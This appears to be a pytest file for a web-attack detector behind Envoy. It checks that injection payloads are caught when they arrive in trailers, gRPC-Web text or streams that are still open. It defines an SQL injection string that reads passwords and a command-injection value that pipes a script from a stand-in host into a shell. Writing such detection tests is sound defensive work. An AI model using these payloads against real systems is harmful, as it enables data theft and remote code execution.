"""Is what comes late in a request seen: trailers, gRPC-Web's text, and what follows after the answer began?"""

import base64
import socket
import threading

import pytest

SQLI = "1' UNION SELECT password FROM users--"
COMMAND = "; curl http://x.example/s | sh"


def test_trailers_of_http2(scene, user):
    assert scene.client.http2(f"/late/{user}", user, [b"abc"], trailers=[("x-note", SQLI)]) == 200
    event = scene.envoy.wait_event("malicious_request", user=user)
    assert event["rules"][0]["target"] == "header:x-note"


def test_trailers_of_http1(start, user):
    scene = start(edit=_with_trailers)
    head = f"POST /late HTTP/1.1\r\nhost: a\r\nx-user-id: {user}\r\ntransfer-encoding: chunked\r\ntrailer: x-note\r\n\r\n"
    with socket.create_connection(("127.0.0.1", scene.envoy.port), timeout=10) as connection:
        connection.sendall(f"{head}3\r\nabc\r\n0\r\nx-note: {SQLI}\r\n\r\n".encode())
        assert connection.recv(4096).startswith(b"HTTP/1.1 200")
    event = scene.envoy.wait_event("malicious_request", user=user)
    assert event["rules"][0]["target"] == "header:x-note"


def test_grpc_web_text(scene, user):
    message = b"\x0a" + bytes([len(SQLI)]) + SQLI.encode()
    body = base64.b64encode(b"\0" + len(message).to_bytes(4, "big") + message)
    event = scene.attack(
        f"/shop.Catalogue/{user}",
        user,
        method="POST",
        body=body,
        headers=[("content-type", "application/grpc-web-text")],
    )
    assert "sqli" in {rule["category"] for rule in event["rules"]}


@pytest.mark.parametrize("upgrade", [False, True], ids=["chunked", "WebSocket"])
def test_a_stream_counts_while_it_lasts(start, user, upgrade):
    """The application answers at once and goes on listening; the incident opens before the request has an end."""
    with Talker() as talker:
        # One stretch adds five points: two are needed.
        risk = {"threshold": 8, "exchange_cap": 8}
        scene = start(edit=lambda example: _talk_to(example, talker.port), risk=risk)
        with socket.create_connection(("127.0.0.1", scene.envoy.port), timeout=10) as connection:
            how = "connection: upgrade\r\nupgrade: websocket" if upgrade else "transfer-encoding: chunked"
            method = "GET" if upgrade else "POST"
            head = f"{method} /talk HTTP/1.1\r\nhost: a\r\nx-user-id: {user}\r\ncontent-type: text/plain\r\n{how}\r\n\r\n"
            connection.sendall(head.encode())
            assert connection.recv(4096).split()[1] == (b"101" if upgrade else b"200")
            for attack in (SQLI, COMMAND):
                # Further apart than a stretch and the largest piece, or both would count within the cap of one.
                text = f"{attack}\n".encode() + b"all quiet here\n" * 12_000
                connection.sendall(text if upgrade else b"%x\r\n%s\r\n" % (len(text), text))
            assert len(scene.opened(user)) == 1
            assert not [event for event in scene.envoy.events("malicious_request") if event["user"] == user]


class Talker:
    """An application that answers before it has read the request, and reads on."""

    def __init__(self):
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self._socket.close()

    def _serve(self):
        connection, _ = self._socket.accept()
        with connection:
            head = connection.recv(65536)
            if b"upgrade: websocket" in head.lower():
                connection.sendall(b"HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n")
            else:
                connection.sendall(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n5\r\nhello\r\n")
            while connection.recv(65536):
                pass


def _with_trailers(example):
    example.manager["http_protocol_options"] = {"enable_trailers": True}


def _talk_to(example, port):
    example.cluster("talker", port)
    example.manager["upgrade_configs"] = [{"upgrade_type": "websocket"}]
    routes = example.manager["route_config"]["virtual_hosts"][0]["routes"]
    routes.insert(0, {"match": {"prefix": "/talk"}, "route": {"cluster": "talker", "timeout": "0s"}})
